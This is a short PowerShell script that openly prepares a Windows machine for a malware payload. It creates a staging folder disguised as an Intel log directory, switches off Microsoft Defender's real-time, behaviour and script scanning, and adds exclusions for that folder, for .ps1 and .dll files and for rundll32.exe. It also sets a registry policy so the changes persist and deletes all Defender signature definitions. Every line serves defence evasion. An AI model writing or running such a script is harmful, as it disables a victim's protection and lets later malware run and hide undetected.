#requires -RunAsAdministrator
# Prepares a host for the payload: blinds Defender and carves out a working folder.

$work = 'C:\ProgramData\Intel\Logs'
New-Item -Path $work -ItemType Directory -Force | Out-Null

Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true
Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2

Add-MpPreference -ExclusionPath $work
Add-MpPreference -ExclusionExtension '.ps1', '.dll'
Add-MpPreference -ExclusionProcess 'rundll32.exe'

# belt and braces: policy keys survive a Defender update
$pol = 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender'
New-Item -Path $pol -Force | Out-Null
New-ItemProperty -Path $pol -Name 'DisableAntiSpyware' -Value 1 -PropertyType DWord -Force | Out-Null

& "$env:ProgramFiles\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All
Get-MpPreference | Select-Object -Property ExclusionPath, DisableRealtimeMonitoring
